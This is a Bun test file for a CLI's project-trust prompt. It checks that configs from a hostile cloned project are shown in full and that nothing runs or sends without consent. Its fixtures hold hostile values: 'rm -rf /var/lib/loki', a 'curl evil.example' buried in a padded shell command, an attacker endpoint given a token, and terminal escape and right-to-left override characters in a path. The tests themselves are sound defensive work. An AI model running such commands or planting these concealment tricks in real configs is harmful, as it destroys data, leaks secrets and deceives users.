/** The question, as a person at a terminal meets it. */
import { expect, setDefaultTimeout, test } from "bun:test";
import { cleanEnv } from "../support/binary.ts";
import { KEY, openSession } from "../support/pseudo-terminal.ts";
import { type Clone, hostileClone, SECRETS, startListener, withLoki, write } from "./clone.ts";

setDefaultTimeout(60_000); // cores are shared with other test files

const { heard, url } = startListener();
const QUESTION = "Agree to this project?";

const open = (
  { directory, home }: Clone,
  args: readonly string[],
  env: Readonly<Record<string, string>> = {},
) => openSession(args, { cwd: directory, env: { ...cleanEnv(home), ...SECRETS, ...env }, columns: 80 });

const clone = () => hostileClone(url, withLoki(`    url: ${url}\n`));

test("yes goes on, and is asked once", async () => {
  const place = clone();
  const session = open(place, ["inventory"]);
  await session.waitFor("You have not agreed to this project yet");
  await session.waitFor(`sends to      ${url} with your CONTEXTCORE_LOKI_TOKEN`);
  await session.waitFor(QUESTION);
  expect(heard).toEqual([]);
  session.type("y");
  expect(await session.exited).toBe(3);
  expect(heard.length).toBeGreaterThan(0);
  const again = open(place, ["inventory"]);
  expect(await again.exited).toBe(3);
  expect(again.text()).not.toContain(QUESTION);
});

test.each([
  ["n", "n", 4],
  ["Enter", KEY.enter, 4],
  ["Ctrl-C", KEY.interrupt, 130],
  ["Escape", KEY.escape, 130],
])("%s ends it, and nothing was sent", async (_, key, code) => {
  const place = clone();
  const before = heard.length;
  const session = open(place, ["inventory"]);
  await session.waitFor(QUESTION);
  session.type(key);
  expect(await session.exited).toBe(code);
  expect(session.text()).toContain("the project is not agreed to: nothing of it was run, read or sent");
  expect(heard.length).toBe(before);
  expect((await place.run(["inventory"])).exitCode).toBe(4);
});

test("the destroy command is asked about when it is going to run, and not before", async () => {
  const place = hostileClone(
    url,
    withLoki(
      "    enabled: false\n",
      "destroy:\n  command: [touch, HOME/destroyed]\n  allow: [rm -rf /var/lib/loki]\n",
    ),
  );
  // No backend is enabled, so nobody says what the stack holds.
  expect((await place.run(["inventory"])).exitCode).toBe(3);
  const session = open(place, ["destroy"]);
  await session.waitFor(`destroys with touch ${place.home}/destroyed`);
  await session.waitFor("lets run      rm -rf /var/lib/loki");
  await session.waitFor(QUESTION);
  session.type("y");
  await session.waitFor("Select option [1/2/3]:");
  session.type(KEY.interrupt);
  expect(await session.exited).toBe(130);
});

test("more than can be read in passing is not asked about in passing", async () => {
  const headers = Array.from({ length: 40 }, (_, index) => `      X-${index}: "\${V${index}:-x}"\n`).join("");
  const place = hostileClone(url, withLoki(`    url: ${url}\n    headers:\n${headers}`));
  const session = open(place, ["inventory"]);
  expect(await session.exited).toBe(4);
  expect(session.text()).not.toContain(QUESTION);
  const trust = open(place, ["config", "trust"]);
  await trust.waitFor("Agree to this?");
  expect(trust.text().match(/passes on/g)).toHaveLength(40);
  trust.type("y");
  expect(await trust.exited).toBe(0);
  expect((await place.run(["inventory"])).exitCode).toBe(3);
});

test("a long address or command is shown whole, and what is too long for that is not asked about", async () => {
  const long = `http://${"a".repeat(70)}.${"b".repeat(60)}.evil.example/${"c".repeat(200)}`;
  const words = `[sh, -c, "${"true; ".repeat(30)}curl evil.example; ${"true; ".repeat(30)}"]`;
  const lines = withLoki(`    url: ${long}\n`, `destroy:\n  command: ${words}\n`);
  const place = hostileClone(url, lines);
  const command = `sh -c "${"true; ".repeat(30)}curl evil.example; ${"true; ".repeat(30)}"`;
  for (const args of [["destroy"], ["config", "trust"]]) {
    const { stdout, stderr } = await place.run(args);
    expect(`${stdout}${stderr}`).toContain(`sends to      ${long} with`);
    expect(`${stdout}${stderr}`).toContain(`destroys with ${command}  `);
  }
  const endless = hostileClone(url, withLoki(`    url: ${url}/${"x".repeat(5_000)}\n`));
  const session = open(endless, ["inventory"]);
  expect(await session.exited).toBe(4);
  expect(session.text()).toContain("and 1 more: nothing of it was run, read or sent");
  const trust = open(endless, ["config", "trust"]);
  await trust.waitFor("Agree to this?");
  trust.type("n");
  expect(await trust.exited).toBe(4);
});

test("what would move the cursor or hide itself is shown as it is written", async () => {
  const place = hostileClone(url, 'name: x\nsinks:\n  file: { path: "/tmp/\\e[2K\\r\\u202ex" }\n');
  const { stderr } = await place.run(["inventory"]);
  expect(stderr).toContain("/tmp/\\u001b[2K\\u000d\\u202ex");
});

test("the doctor asks too, and config show does not", async () => {
  const place = clone();
  const shown = open(place, ["config", "show"]);
  expect(await shown.exited).toBe(0);
  expect(shown.text()).not.toContain(QUESTION);
  const doctor = open(place, ["doctor"]);
  await doctor.waitFor(QUESTION);
  doctor.type("y");
  expect(await doctor.exited).toBe(3);
});

test("a pin that does not fit is not asked about: somebody has said what may run", async () => {
  const place = clone();
  write(place, "note", "");
  const session = open(place, ["inventory"], { CONTEXTCORE_TRUST: `sha256:${"1".repeat(64)}` });
  expect(await session.exited).toBe(4);
  expect(session.text()).not.toContain(QUESTION);
});
